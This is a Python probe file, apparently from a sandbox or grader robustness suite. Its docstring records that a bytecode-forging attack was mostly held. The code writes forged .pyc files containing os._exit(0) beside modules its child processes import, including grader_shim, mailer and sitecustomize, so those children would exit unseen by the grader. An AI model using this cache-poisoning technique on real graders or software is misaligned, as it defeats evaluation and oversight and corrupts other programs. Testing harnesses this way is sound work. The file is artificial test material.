"""Writes bytecode of other code beside the modules that its spawned children import.

Tries: forging
Held by: each run has a folder of its own; a mail that the grader does not see is not sent
Outcome: lost works_under_spawn; passed the others
Unheld: nothing
"""

import importlib.util
import marshal
import os
from multiprocessing import Process

import grader_shim
from mailer import send_mail

code = marshal.dumps(compile("import os\nos._exit(0)\n", "x", "exec"))
unchecked = (1).to_bytes(4, "little") + bytes(8)
files = ["mailer", "send_mail", "grader_shim", "sitecustomize", "json/__init__"]
if "@SANDBOX@" in ("bubblewrap", "restricted"):
    # Under a name that nobody imports, so that nothing is spoilt where these can be written.
    for neighbour in (os.__file__, grader_shim.__file__, os.environ["GRADER_SETTINGS"]):
        files.append(f"{os.path.dirname(neighbour)}/mallory")
for module in files:
    try:
        file = importlib.util.cache_from_source(f"{module}.py")
        os.makedirs(os.path.dirname(file), exist_ok=True)
        with open(file, "wb") as bytecode:
            bytecode.write(importlib.util.MAGIC_NUMBER + unchecked + code)
        if os.path.isabs(file):
            print("gained: wrote", file, flush=True)
    except OSError:
        pass
print("tried", flush=True)


def send_all(recipients):
    processes = [Process(target=send_mail, args=(recipient,)) for recipient in recipients]
    for process in processes:
        process.start()
    for process in processes:
        process.join()


if __name__ == "__main__":
    send_all(list(range(10)))
    print("start异步")
